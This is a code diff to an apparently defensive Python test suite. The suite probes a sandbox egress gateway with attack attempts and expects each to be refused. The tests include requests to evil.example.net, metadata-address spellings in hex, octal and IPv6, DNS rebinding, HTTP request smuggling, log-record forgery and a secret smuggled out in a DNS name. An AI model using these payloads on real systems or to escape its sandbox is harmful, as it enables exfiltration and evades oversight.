@@ -2,26 +2,30 @@
 
 from __future__ import annotations
 
-import contextlib
 import os
 import re
 import socket
-import ssl
 import time
 
 from tests.attacks.inside.network import METADATA, OTHER, PRIVATE, SERVER
 from tests.attacks.inside.record import EXFILTRATION, EXHAUSTION, TAMPERING, attack, held, won
 
 BY_NAME = "the gateway's rules: only what the profile lists, by name and port"
-BY_ADDRESS = "the gateway checks every address that a name resolves to, each time it connects"
+BY_ADDRESS = "the gateway checks every address that it connects to"
 ONE_SPELLING = "the gateway accepts names in one spelling only, and no addresses"
 SAME_WORDS = "the gateway rewrites each request from its own parse"
+CLOSED = "closed without a word"
 PATIENCE = 4.0
+TCP_OF_HOST = 5998
 
 
-def _gateway() -> socket.socket:
-    host, _, port = os.environ["HTTP_PROXY"].removeprefix("http://").rstrip("/").rpartition(":")
-    return socket.create_connection((host, int(port)), timeout=PATIENCE)
+def _at() -> str:
+    """Where the gateway is: listed names lead to it. In the weak sandbox, one that trusts everybody."""
+    return os.environ.get("GATEWAY") or socket.gethostbyname("api.example.com")
+
+
+def _gateway(port: int = 80) -> socket.socket:
+    return socket.create_connection((_at(), port), timeout=PATIENCE)
 
 
 def _read(sock: socket.socket) -> bytes:
@@ -36,42 +40,40 @@ def _read(sock: socket.socket) -> bytes:
     return data
 
 
-def ask(request: bytes) -> bytes:
+def ask(request: bytes, port: int = 80) -> bytes:
     """Send a request, and read what comes until the end."""
-    with _gateway() as sock:
+    with _gateway(port) as sock:
         sock.sendall(request)
         return _read(sock)
 
 
 def _first_line(data: bytes) -> str:
-    return data.partition(b"\r\n")[0].decode("latin-1") or "closed without a word"
+    return data.partition(b"\r\n")[0].decode("latin-1") or CLOSED
+
+
+def _sized(data: bytes, size: int) -> bytes:
+    return len(data).to_bytes(size, "big") + data
 
 
 def hello(name: str | None) -> bytes:
-    """What TLS begins with."""
-    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
-    context.check_hostname = False
-    context.verify_mode = ssl.CERT_NONE
-    out = ssl.MemoryBIO()
-    side = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
-    with contextlib.suppress(ssl.SSLWantReadError):
-        side.do_handshake()
-    return out.read()
+    """What TLS begins with, whatever the name."""
+    named = b"\0" + _sized((name or "").encode("latin-1"), 2)
+    extensions = b"\0\0" + _sized(_sized(named, 2), 2) if name is not None else b"\0\x17\0\0"
+    body = b"\x03\x03" + bytes(32) + b"\0" + _sized(b"\x13\x01", 2) + _sized(b"\0", 1) + _sized(extensions, 2)
+    return b"\x16\x03\x01" + _sized(b"\x01" + _sized(body, 3), 2)
 
 
-def tunnel(authority: str, first: bytes | None = None) -> str:
-    """Ask for a tunnel and speak through it; won if anybody is there."""
-    with _gateway() as sock:
-        sock.sendall(b"CONNECT %b HTTP/1.1\r\nHost: %b\r\n\r\n" % ((authority.encode("latin-1"),) * 2))
-        head = b""
-        while b"\r\n\r\n" not in head and (piece := sock.recv(4096)):
-            head += piece
-        if b" 200 " not in head.partition(b"\r\n")[0]:
-            return held(_first_line(head))
-        name = authority.rpartition("@")[2].rpartition(":")[0].strip("[]").rstrip(".").lower()
-        sock.sendall(first if first is not None else hello(name if re.fullmatch("[a-z0-9.-]+", name) else None))
-        answer = _read(sock)
-    return won(f"{authority}: {_served(answer)}") if b"served by" in answer else held("the tunnel was closed")
+def reach(target: str, first: bytes | None = None) -> str:
+    """Name a host to the gateway, in TLS on port 443 and else in a plain request; won if anybody is there."""
+    host, _, port = target.rpartition(":")
+    if first is None:
+        plain = f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode("latin-1")
+        first = hello(host) if port == "443" else plain
+    try:
+        answer = ask(first, int(port))
+    except ConnectionRefusedError:
+        return held("ECONNREFUSED")
+    return won(f"{target}: {_served(answer)}") if b"served by" in answer else held(_first_line(answer))
 
 
 def _served(answer: bytes) -> str:
@@ -79,122 +81,119 @@ def _served(answer: bytes) -> str:
     return found[1].decode("latin-1") if found else ""
 
 
-def any_tunnel(*authorities: str) -> str:
+def reach_any(*targets: str) -> str:
     """The first that wins; else what was said to all of them."""
-    said = [tunnel(authority) for authority in authorities]
+    said = [reach(target) for target in targets]
     return next((one for one in said if not one.startswith("held")), held("; ".join(one[6:] for one in said)))
 
 
 # -- who may be asked for -------------------------------------------------------------------------------------------
 
 
-@attack(EXFILTRATION, BY_NAME, "403 evil.example.net:443 is not allowed", cage="allow")
+@attack(EXFILTRATION, BY_NAME, CLOSED, cage="allow")
 def a_host_that_is_not_listed() -> str:
     """ask the gateway for a host that the profile does not list"""
-    return tunnel("evil.example.net:443")
+    return reach("evil.example.net:443")
 
 
-@attack(EXFILTRATION, BY_NAME, "403 .*not allowed with port 8443", cage="allow")
+@attack(EXFILTRATION, BY_NAME, "ECONNREFUSED; ECONNREFUSED", cage="allow")
 def another_port_of_an_allowed_host() -> str:
     """an allowed host, on another port"""
-    return any_tunnel("api.example.com:8443", "api.example.com:22")
+    return reach_any("api.example.com:8443", "api.example.com:22")
 
 
-@attack(EXFILTRATION, BY_NAME, "403 .*not allowed; .*403", cage="allow", control="only this test's names exist")
+@attack(EXFILTRATION, BY_NAME, f"{CLOSED}; {CLOSED}", cage="allow", control="only this test's names exist")
 def names_that_look_alike() -> str:
     """hosts whose names begin or end as allowed ones do"""
-    return any_tunnel(
+    return reach_any(
         "api.example.com.evil.example.net:443", "xmodels.example.org:443", "models.example.org:443",
         "a.api.example.com:443", "api-example.com:443",
     )  # fmt: skip
 
 
-@attack(EXFILTRATION, ONE_SPELLING, "403.*; .*403", cage="allow")
+@attack(EXFILTRATION, ONE_SPELLING, f"{CLOSED}; {CLOSED}", cage="allow")
 def a_host_behind_a_user() -> str:
     """a denied host behind an allowed name as its user (allowed@denied)"""
-    return any_tunnel("api.example.com:443@evil.example.net:443", "api.example.com@evil.example.net:443")
+    return reach_any("api.example.com:443@evil.example.net:443", "api.example.com@evil.example.net:443")
 
 
-@attack(EXFILTRATION, ONE_SPELLING, "40[03]", cage="allow")
+@attack(EXFILTRATION, ONE_SPELLING, f"{CLOSED}; {CLOSED}", cage="allow")
 def a_name_with_a_hidden_end() -> str:
     """a name that ends early for one reader and late for another (NUL, and space)"""
-    return any_tunnel("evil.example.net\0:443", "evil.example.net\0.models.example.org:443")
+    return reach_any("evil.example.net\0:443", "evil.example.net\0.models.example.org:443")
 
 
-@attack(EXFILTRATION, ONE_SPELLING, "403 the host ends with a dot", cage="allow")
+@attack(EXFILTRATION, ONE_SPELLING, f"{CLOSED}; {CLOSED}", cage="allow")
 def a_name_with_a_dot_at_its_end() -> str:
     """a denied and an allowed host in their absolute form, with a dot at the end"""
-    return any_tunnel("evil.example.net.:443", "api.example.com.:443")
+    return reach_any("evil.example.net.:443", "api.example.com.:443")
 
 
-@attack(EXFILTRATION, f"{BY_NAME}: letters' case makes no difference", "403 evil.example.net:443 is not", cage="allow")
+@attack(EXFILTRATION, f"{BY_NAME}: letters' case makes no difference", CLOSED, cage="allow")
 def a_name_in_other_letters() -> str:
     """a denied host in capitals"""
-    return tunnel("EVIL.Example.NET:443")
+    return reach("EVIL.Example.NET:443")
 
 
-@attack(EXFILTRATION, "destinations are names: an address does not identify who answers", "403 .*is an address",
+@attack(EXFILTRATION, "destinations are names: an address does not identify who answers", f"{CLOSED}; {CLOSED}",
         cage="allow")  # fmt: skip
 def an_allowed_hosts_address() -> str:
     """the address of an allowed host, and of a denied one"""
-    return any_tunnel(f"{SERVER}:443", f"{OTHER}:443")
+    return reach_any(f"{SERVER}:443", f"{OTHER}:443")
 
 
 # -- metadata and private addresses ---------------------------------------------------------------------------------
 
 
-@attack(EXFILTRATION, ONE_SPELLING, "403 .*is an address", cage="allow")
+@attack(EXFILTRATION, ONE_SPELLING, "HTTP/1.1 403", cage="allow")
 def metadata_by_address() -> str:
     """the metadata service's address through the gateway"""
-    return tunnel(f"{METADATA}:80", b"GET / HTTP/1.1\r\n\r\n")
+    return reach_any(f"{METADATA}:80", f"{METADATA}:443")
 
 
-@attack(EXFILTRATION, ONE_SPELLING, "an address in a spelling of its own.*; .*403.*; .*403.*; .*403", cage="allow")
+@attack(EXFILTRATION, ONE_SPELLING, "403.*; .*403.*; .*403.*; .*403.*; .*403", cage="allow")
 def metadata_in_other_spellings() -> str:
     """that address as one number, in hex, in octal, and with parts left out"""
-    return any_tunnel(
+    return reach_any(
         "2852039166:80", "0xa9fea9fe:80", "0251.0376.0251.0376:80", "169.254.43518:80", "0xa9.0xfe.43518:80"
     )
 
 
-@attack(EXFILTRATION, ONE_SPELLING, "403.*; .*403", cage="allow")
+@attack(EXFILTRATION, ONE_SPELLING, "40[03].*; .*40[03]", cage="allow")
 def metadata_in_ipv6() -> str:
     """that address inside an IPv6 address"""
-    return any_tunnel(f"[::ffff:{METADATA}]:80", "[::ffff:a9fe:a9fe]:80")
+    return reach_any(f"[::ffff:{METADATA}]:80", "[::ffff:a9fe:a9fe]:80")
 
 
-@attack(EXFILTRATION, BY_ADDRESS, "403 .*leads to 169.254.169.254, which is a reserved address", cage="allow")
+@attack(EXFILTRATION, BY_ADDRESS, CLOSED, cage="allow")
 def a_name_that_leads_to_metadata() -> str:
     """an allowed name whose owner points it at the metadata service (rebinding)"""
-    return tunnel("metadata.example.com:443")
+    return reach("metadata.example.com:443")
 
 
-@attack(EXFILTRATION, BY_ADDRESS, "403 .*which is a private address", cage="allow")
+@attack(EXFILTRATION, BY_ADDRESS, CLOSED, cage="allow")
 def a_name_that_leads_to_private_addresses() -> str:
     """an allowed name that resolves into the private network"""
-    return tunnel("private.example.com:443")
+    return reach("private.example.com:443")
 
 
-@attack(EXFILTRATION, BY_ADDRESS, "403 .*leads to 127.0.0.1, which is a reserved address", cage="allow",
+@attack(EXFILTRATION, BY_ADDRESS, CLOSED, cage="allow",
         control="nothing listens there on the ports of allowed names")  # fmt: skip
 def a_name_that_leads_to_the_gateway_itself() -> str:
     """an allowed name that resolves to the gateway's own loopback"""
-    return tunnel("loopback.example.com:443")
+    return reach("loopback.example.com:443")
 
 
-@attack(EXFILTRATION, BY_ADDRESS, "403 .*which is a (reserved|private) address", cage="allow")
+@attack(EXFILTRATION, BY_ADDRESS, CLOSED, cage="allow")
 def a_name_that_leads_to_the_host() -> str:
     """an allowed name that resolves to the host's own services"""
-    return tunnel(f"host.example.com:{TCP_OF_HOST}", b"x")
+    return reach(f"host.example.com:{TCP_OF_HOST}", b"x")
 
 
-TCP_OF_HOST = 5998
-
-
-@attack(EXFILTRATION, BY_ADDRESS, "40[03]|502 ", cage="allow", control="without IPv6 nothing answers")
+@attack(EXFILTRATION, BY_ADDRESS, CLOSED, cage="allow", control="without IPv6 nothing answers")
 def a_name_that_leads_to_a_mapped_address() -> str:
     """an allowed name whose IPv6 address holds the metadata service's"""
-    return tunnel("mapped.example.com:443")
+    return reach("mapped.example.com:443")
 
 
 # -- the gateway as somebody's way in -------------------------------------------------------------------------------
@@ -202,30 +201,40 @@ def a_name_that_leads_to_a_mapped_address() -> str:
 
 @attack(EXFILTRATION, ONE_SPELLING, "403.*; .*403.*; .*403", cage="allow")
 def the_gateway_through_itself() -> str:
-    """ask the gateway for itself, to bypass its first check"""
-    host, _, port = os.environ["HTTP_PROXY"].removeprefix("http://").rstrip("/").rpartition(":")
-    return any_tunnel(f"127.0.0.1:{port}", f"localhost:{port}", f"{host}:{port}") if not os.environ.get("WEAK") else (
-        tunnel(f"127.0.0.1:{port}", b"GET http://evil.example.net/ HTTP/1.1\r\n\r\n")
-    )  # fmt: skip
+    """ask the gateway for what listens on its own machine, to bypass its first check"""
+    hosts = ("127.0.0.1", "localhost", _at())
+    said = [reach("x:80", _plain_for(f"{host}:{TCP_OF_HOST}")) for host in hosts]
+    return next((one for one in said if not one.startswith("held")), held("; ".join(said)))
 
 
-@attack(EXFILTRATION, ONE_SPELLING, "403.*is an address", cage="allow")
+def _plain_for(host: str) -> bytes:
+    return f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode("latin-1")
+
+
+@attack(EXFILTRATION, ONE_SPELLING, "403", cage="allow")
 def another_gateway_through_this_one() -> str:
     """ask the gateway for another sandbox's"""
     address = os.environ["NEIGHBOUR_GATEWAY"].split()[0]
-    return tunnel(f"{address}:{os.environ['NEIGHBOUR_PORT']}", b"GET http://evil.example.net/ HTTP/1.1\r\n\r\n")
+    return reach("x:80", _plain_for(f"{address}:{os.environ['NEIGHBOUR_PORT']}"))
 
 
-@attack(EXFILTRATION, "a proxy request must name the whole destination; nothing else is answered", "HTTP/1.1 40[03]",
-        cage="allow")  # fmt: skip
-def a_request_that_names_no_host() -> str:
-    """a request without a destination, which a careless proxy sends to its Host field's target"""
-    answer = ask(b"GET / HTTP/1.1\r\nHost: evil.example.net\r\nConnection: close\r\n\r\n")
+@attack(EXFILTRATION, "the gateway is no proxy: CONNECT is not answered", "HTTP/1.1 40[03]", cage="allow")
+def a_tunnel_by_connect() -> str:
+    """ask for a tunnel, as a proxy's client would"""
+    with _gateway() as sock:
+        sock.sendall(b"CONNECT evil.example.net:443 HTTP/1.1\r\nHost: evil.example.net:443\r\n\r\n")
+        answer = _read(sock)
     return won(_served(answer)) if b"served by" in answer else held(_first_line(answer))
 
 
-@attack(EXFILTRATION, "the gateway speaks http:// and CONNECT, and nothing else", "HTTP/1.1 40[03]", cage="allow",
-        control="no proxy in the weak sandbox opens files")  # fmt: skip
+@attack(EXFILTRATION, "each request must name its host, once", "HTTP/1.1 400", cage="allow")
+def a_request_that_names_no_host() -> str:
+    """a request without a host, which a careless gateway sends to where it sent the last one"""
+    return reach("x:80", b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n")
+
+
+@attack(EXFILTRATION, "the gateway speaks http:// and nothing else", "HTTP/1.1 40[03]", cage="allow",
+        control="nothing in the weak sandbox opens files")  # fmt: skip
 def other_schemes() -> str:
     """have the gateway read its own files, or speak other protocols (file:, ftp:, gopher:)"""
     said = [ask(f"GET {url} HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n".encode()) for url in (
@@ -239,32 +248,32 @@ def other_schemes() -> str:
 # -- where readings part ways ---------------------------------------------------------------------------------------
 
 
-@attack(EXFILTRATION, "TLS through a tunnel must name the tunnel's host", "the tunnel was closed", cage="allow")
+@attack(EXFILTRATION, "TLS must name a listed host, wherever the client went for it", CLOSED, cage="allow")
 def tls_for_another_host() -> str:
-    """a tunnel to an allowed host, and in it TLS for another behind the same address"""
-    return tunnel("api.example.com:443", hello("evil.example.net"))
+    """the address of an allowed name, and TLS for another host behind it"""
+    return reach("api.example.com:443", hello("evil.example.net"))
 
 
-@attack(EXFILTRATION, "TLS through a tunnel must name the tunnel's host", "the tunnel was closed", cage="allow")
+@attack(EXFILTRATION, "TLS must name a listed host", CLOSED, cage="allow")
 def tls_for_nobody() -> str:
     """TLS that names no host"""
-    return tunnel("api.example.com:443", hello(None))
+    return reach("api.example.com:443", hello(None))
 
 
-@attack(EXFILTRATION, "port 443 carries TLS only", "the tunnel was closed", cage="allow")
+@attack(EXFILTRATION, "port 443 carries TLS only", CLOSED, cage="allow")
 def no_tls_on_443() -> str:
-    """another protocol in a tunnel to port 443"""
-    return tunnel("api.example.com:443", b"SSH-2.0-agent\r\n")
+    """another protocol on port 443"""
+    return reach("api.example.com:443", b"SSH-2.0-agent\r\n")
 
 
 def _plain(request: bytes, mark: bytes) -> str:
     """Won if the mark gets to the host in the words of the request."""
     answer = ask(request)
-    reached = answer.partition(b"served by")[2]
+    reached = answer.partition(b"served by")[2].partition(b"HTTP/1.1 403")[0]
     return won(reached[:200]) if mark in reached else held(_first_line(answer))
 
 
-@attack(EXFILTRATION, "the Host field must be the target's", "HTTP/1.1 403", cage="allow")
+@attack(EXFILTRATION, "the Host field must be the target's", "HTTP/1.1 400", cage="allow")
 def another_host_field() -> str:
     """an allowed target, and a Host field that names another site of the same server"""
     request = b"GET http://api.example.com/ HTTP/1.1\r\nHost: evil.example.net\r\nConnection: close\r\n\r\n"
@@ -278,7 +287,7 @@ def two_host_fields() -> str:
     return _plain(request, b"evil.example.net")
 
 
-@attack(EXFILTRATION, SAME_WORDS, "HTTP/1.1 400", cage="allow")
+@attack(EXFILTRATION, SAME_WORDS, "HTTP/1.1 (200|400)", cage="allow")
 def two_lengths() -> str:
     """a second request hidden in the first one's body (Content-Length and Transfer-Encoding)"""
     hidden = b"0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example.net\r\n\r\n"
@@ -320,10 +329,10 @@ def a_second_request_behind_the_first() -> str:
     return held(re.sub(rb".*(HTTP/1.1 403[^\r]*).*", rb"\1", answer, flags=re.S).decode("latin-1"))
 
 
-@attack(EXFILTRATION, f"{BY_NAME}; what is refused is never resolved", "403.*; .*403", cage="allow")
+@attack(EXFILTRATION, f"{BY_NAME}; what is refused is never resolved", f"{CLOSED}; {CLOSED}", cage="allow")
 def a_secret_in_a_name() -> str:
     """put it into the name of a denied host, so that whoever resolves the name gets it"""
-    return any_tunnel("secret-five.evil.example.net:443", "evil.example.net:443")
+    return reach_any("secret-five.evil.example.net:443", "evil.example.net:443")
 
 
 # -- wearing it out -------------------------------------------------------------------------------------------------
@@ -378,7 +387,7 @@ def a_request_that_never_ends() -> str:
     return said if closed == len(kept) else won(f"{len(kept) - closed} are still waited for")
 
 
-@attack(EXHAUSTION, "a request's head is bounded", "HTTP/1.1 431|closed", cage="allow", control=AFTER)
+@attack(EXHAUSTION, "a request's head is bounded", "HTTP/1.1 400|closed", cage="allow", control=AFTER)
 def a_head_without_end() -> str:
     """a request whose fields fill the gateway's memory"""
     with _gateway() as sock:
@@ -392,11 +401,17 @@ def a_head_without_end() -> str:
     return held(_first_line(answer)) if b"served by" not in answer else won("16 MB of fields")
 
 
-@attack(TAMPERING, "records are JSON, one a line, with every character escaped", "403|400", cage="allow", control=AFTER)
+@attack(
+    TAMPERING,
+    "records are JSON, one a line, with every character escaped",
+    f"{CLOSED}|40[03]",
+    cage="allow",
+    control=AFTER,
+)
 def forge_the_gateways_records() -> str:
     """ask for hosts whose names would end the gateway's record and begin another"""
     mark = '"}\\n{"event":"request","verdict":"allowed","host":"forged.example.net'
-    said = [tunnel(f"{mark}:443"), held(_first_line(ask(f"GET http://{mark}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode())))]
+    said = [reach(f"{mark}:443"), held(_first_line(ask(f"GET http://{mark}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode())))]
     return next((one for one in said if one.startswith("won")), said[0])
 
 
@@ -406,25 +421,25 @@ def flood_the_gateways_records() -> str:
     """so many refused requests that the records of earlier ones are lost"""
     refused = 0
     for number in range(300):
-        refused += tunnel(f"flood-{number}.{'x' * 60}.{'y' * 60}.example.net:443").startswith("held")
+        refused += reach(f"flood-{number}.{'x' * 60}.{'y' * 60}.example.net:443").startswith("held")
     return held("every one refused, and recorded") if refused == 300 else won(f"{300 - refused} went through")
 
 
 # -- egress: open ---------------------------------------------------------------------------------------------------
 
 
-@attack(EXFILTRATION, "open means public: reserved addresses are never allowed", "403.*reserved.*; .*403",
+@attack(EXFILTRATION, "open means public: reserved addresses are never allowed", "403.*; .*403",
         cage="open")  # fmt: skip
 def open_metadata() -> str:
     """with egress open: the metadata service, by address and by name"""
-    return any_tunnel(f"{METADATA}:80", "metadata.example.com:80", "2852039166:80")
+    return reach_any(f"{METADATA}:80", "metadata.example.com:80", "2852039166:80")
 
 
-@attack(EXFILTRATION, "open means public: private addresses need private_networks", "403.*private.*; .*403.*private",
+@attack(EXFILTRATION, "open means public: private addresses need private_networks", "403.*; .*403",
         cage="open")  # fmt: skip
 def open_private() -> str:
     """with egress open: the private network, by address and by name"""
-    return any_tunnel(f"{PRIVATE}:80", "private.example.com:80")
+    return reach_any(f"{PRIVATE}:80", "private.example.com:80")
 
 
 @attack(EXFILTRATION, "the gateway refuses the addresses of its machine and its networks", "403.*; .*403",
@@ -432,7 +447,8 @@ def open_private() -> str:
 def open_host() -> str:
     """with egress open: the host's own services, by each of its addresses and by name"""
     hosts = os.environ["HOST_ADDRESSES"].split()
-    return any_tunnel(*(f"{address}:{TCP_OF_HOST}" for address in hosts), f"host.example.com:{TCP_OF_HOST}")
+    said = [reach("x:80", _plain_for(f"{host}:{TCP_OF_HOST}")) for host in (*hosts, "host.example.com")]
+    return next((one for one in said if not one.startswith("held")), held("; ".join(said)))
 
 
 @attack(EXFILTRATION, "the gateway refuses private addresses and its own", "403.*; .*403", cage="open")
@@ -440,7 +456,9 @@ def open_neighbours() -> str:
     """with egress open: other sandboxes and their gateways, and this gateway itself"""
     gateways = os.environ["NEIGHBOUR_GATEWAY"].split()
     port = os.environ["NEIGHBOUR_PORT"]
-    return any_tunnel(f"{os.environ['NEIGHBOUR']}:8080", *(f"{one}:{port}" for one in gateways), "127.0.0.1:3128")
+    hosts = (f"{os.environ['NEIGHBOUR']}:8080", *(f"{one}:{port}" for one in gateways), f"127.0.0.1:{TCP_OF_HOST}")
+    said = [reach("x:80", _plain_for(host)) for host in hosts]
+    return next((one for one in said if not one.startswith("held")), held("; ".join(said)))
 
 
 @attack(
